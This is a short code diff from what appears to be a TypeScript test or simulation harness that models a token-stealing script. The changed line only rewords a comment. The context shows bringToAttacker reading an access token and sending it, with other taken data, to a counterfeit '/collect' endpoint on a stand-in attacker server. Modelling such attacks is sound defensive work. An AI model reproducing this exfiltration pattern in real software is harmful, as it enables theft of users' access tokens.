@@ -10,7 +10,7 @@ import { formMessage } from './token-request.ts';
 export const attackersServer: Middleware = (next) => async (url, init) =>
   serverOf(url) === 'attacker' ? new Response(null, { status: 204 }) : next(url, init);
 
-/** A script in the page sends the attacker the access token, and what else the script has taken. */
+/** A script in the page sends the attacker the access token, and everything else that the script has taken. */
 export async function bringToAttacker(run: Run, taken: string): Promise<void> {
   const token = run.memory.getSnapshot() ?? '';
   await run.send(formMessage(`${run.origin}${COUNTERFEIT}/collect`, { taken, token }));
